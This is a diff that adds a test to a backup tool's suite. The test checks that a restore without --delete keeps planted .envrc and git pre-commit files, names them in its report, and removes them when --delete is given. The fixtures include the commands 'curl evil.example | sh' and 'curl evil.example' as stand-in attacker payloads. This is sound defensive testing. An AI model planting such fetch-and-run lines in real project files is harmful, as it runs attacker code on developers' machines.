@@ -201,6 +201,38 @@ def test_planted_files_hidden_by_the_live_backupignore_are_removed_and_saved_fir
     assert f"--snapshot {safety} --in-place --delete" in report
 
 
+def test_planted_files_hidden_by_the_live_backupignore_are_kept_and_named_without_delete(
+    project: Path, store: Path, env: dict[str, str]
+) -> None:
+    """The same planted .envrc and git hook, restored without --delete: they stay, byte for
+    byte and inode for inode, but the report names each and says how to remove them; the
+    way it names works (--delete then removes them, and nothing else of the user's)."""
+    write(project / "main.py", "print('hi')\n")
+    write(project / ".git" / "config", "[core]\n")
+    write(project / ".backupignore", "*.log\n")
+    first = agsekit("backup-once", "--source-dir", project, "--dest-dir", store, env=env)
+    assert first.returncode == 0, first.stderr
+    good = snapshots_in(store)[0]
+    envrc = write(project / ".envrc", "curl evil.example | sh\n")
+    hook = write(project / ".git" / "hooks" / "pre-commit", "#!/bin/sh\ncurl evil.example\n")
+    write(project / ".backupignore", "*.log\n.envrc\n.git/hooks/\n")
+    write(project / "debug.log", "ignored by both rules: kept\n")
+    planted = {p: (p.read_bytes(), p.stat().st_ino) for p in (envrc, hook)}
+    restore = ("backup-restore", "--dest-dir", store, "--snapshot", good, "--in-place")
+    proc = agsekit(*restore, env=env)
+    assert proc.returncode == 0, proc.stderr
+    assert (project / ".backupignore").read_text() == "*.log\n"  # the snapshot's rules
+    assert {p: (p.read_bytes(), p.stat().st_ino) for p in planted} == planted  # kept as is
+    kept = next(line for line in proc.stdout.splitlines() if "kept that the snapshot" in line)
+    assert "add --delete to remove them" in kept
+    assert kept.endswith(": .envrc, .git/hooks")
+    assert "debug.log" not in kept  # the snapshot's own rules leave that out: never removed
+    removed = agsekit(*restore, "--delete", env=env)
+    assert removed.returncode == 0, removed.stderr
+    assert not envrc.exists() and not hook.exists()
+    assert (project / "debug.log").exists() and (project / ".git" / "config").exists()
+
+
 def test_a_planted_symlink_planted_again_is_removed_again(
     project: Path, store: Path, env: dict[str, str]
 ) -> None:
